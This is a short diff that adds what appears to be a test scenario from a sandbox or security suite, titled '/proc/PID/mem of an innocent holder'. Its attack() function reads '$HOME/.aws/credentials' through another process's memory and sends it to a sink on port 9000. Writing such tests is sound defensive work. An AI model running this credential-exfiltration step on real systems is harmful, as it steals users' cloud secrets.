@@ -1,0 +1,3 @@
+# SPDX-License-Identifier: Apache-2.0
+TITLE="/proc/PID/mem of an innocent holder"
+attack() { "$PROVOKE/holder" mem "$HOME/.aws/credentials" "$SINK4" 9000; }
